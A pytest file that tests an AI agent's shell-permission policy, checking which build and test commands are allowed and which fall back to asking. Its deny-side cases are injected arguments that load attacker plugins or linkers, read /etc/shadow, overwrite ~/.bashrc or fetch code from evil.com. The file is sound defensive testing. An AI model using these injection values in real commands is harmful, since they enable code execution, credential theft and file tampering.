"""Of calls of tools that check and build, which words a rule for the tool does not cover."""

import shlex

import pytest

from agent.calls.permission_request import PermissionRequest
from agent.calls.policy import Policy, decide, parse_rule
from tools.commands.tool_options import unknown_at

RULES = (
    "pytest;ruff check;mypy;black;eslint;prettier;git add;git commit;git fetch;go test;go build;cargo test;"
    "cargo clippy;python -m pytest;npm test;npm ls;npm ci;pnpm test;poetry run pytest;tsc;shellcheck"
)


def verdict(command: str) -> str:
    policy = Policy("/w/app", "ask", tuple(parse_rule(f"bash({rule})") for rule in RULES.split(";")))
    return decide(PermissionRequest("bash", "run", (command,)), policy).verdict


@pytest.mark.parametrize(
    "command",
    [
        "pytest", "pytest -q", "pytest -xvs tests/test_a.py::test_b[1]", "pytest -k 'a and not b' --tb=short -n4",
        "pytest --maxfail=1 --lf -m slow tests", "ruff check --fix src",
        "ruff check . --select E,F --output-format concise",
        "mypy --strict src tests", "black --check -l 100 .", "eslint . --ext .ts,.tsx --max-warnings=0 --fix",
        "prettier --write src/a.ts", "git add -A", "git add src/a.py", "git commit -am 'say /etc what ../is done'",
        "git commit --amend --no-edit", "git fetch origin main --depth=1", "go test ./... -run TestA -count=1 -v",
        "go build ./cmd/x", "cargo test -p core --release -- --nocapture parses",
        "cargo clippy --all-targets -- -D warnings",
        "python -m pytest -q tests",
        "npm test", "npm test -- --coverage src/a.test.ts", "npm ls --depth=0", "npm ci --no-audit",
        "pnpm test -- -t 'adds up'", "poetry run pytest -q", "tsc --noEmit -p tsconfig.json",
        "shellcheck -x -s bash a.sh", "npm ls @scope/name", "git add @types/a.ts",
    ],
)  # fmt: skip
def test_everyday_calls_are_covered(command: str) -> None:
    assert verdict(command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "npm test --script-shell=./x", "npm test --prefix /evil", "npm test --node-options=--require=./x",
        "npm test -C ../evil", "npm test -- --config=./evil.js", "npm test -- --globalSetup ./x.js",
        "pnpm test --dir /evil",
        "pytest -p evil", "pytest -c evil.ini", "pytest --pdbcls=evil:x", "pytest --junitxml=/home/u/.bashrc",
        "pytest --basetemp=/home/u", "pytest /evil/test.py", "pytest ../x", "pytest a/../../x", "pytest ~/x",
        "pytest --pyargs evil", "pytest -W error::evil.Warning", "pytest -qp evil", "poetry run pytest -p evil",
        "go test -exec ./x ./...", "go test -ldflags=-extld=./x", "go test -coverprofile=/x", "go test -C /evil",
        "go test evil.com/x@latest", "go test evil.com/x/...", "go build -o /x", "cargo test -C /evil",
        "cargo test --target-dir /home/u", "cargo test --config 'target.x.runner=\"./x\"'", "cargo test +evil -Z x",
        "cargo clippy -- -C linker=./x", "cargo clippy -- -Clinker=./x", "eslint --parser ./evil.js .",
        "eslint -f ./evil.js .", "eslint -c evil.js .", "ruff check --cache-dir=/x", "ruff check --config evil",
        "mypy --html-report /x", "mypy --install-types --non-interactive", "black /home/u", "prettier --write /home/u",
        "prettier --plugin=./x.js a", "git commit -S", "git commit -F /etc/shadow", "git commit -t /etc/shadow",
        "git fetch --upload-pack=./x", "git fetch /evil", "tsc --outDir /x", "tsc -p ../evil", "shellcheck -P /x a.sh",
        "pytest @words", "python -m pytest -p evil", "python -m pytest @words", "pytest -k @words",
        "ruff check @words", "mypy @words", "tsc @words", "eslint @words",
        "npm ci --cache=/x", "npm ls -C/evil", "black -q=x", "pytest --no-such-option",
    ],
)  # fmt: skip
def test_what_may_run_load_or_write_something_else_is_not(command: str) -> None:
    assert verdict(command) == "ask"


def test_a_rule_that_names_an_option_covers_it_and_nothing_more() -> None:
    policy = Policy("/w/app", "ask", (parse_rule("bash(pytest -p no:cacheprovider)"),))
    asked = (
        PermissionRequest("bash", "run", (f"pytest -p no:cacheprovider{more}",)) for more in ("", " -q", " -p evil")
    )
    assert [decide(each, policy).verdict for each in asked] == ["allow", "allow", "ask"]


def test_of_other_programs_nothing_is_said() -> None:
    assert unknown_at(shlex.split("make --eval=x /evil")) == ()
    assert unknown_at([]) == ()
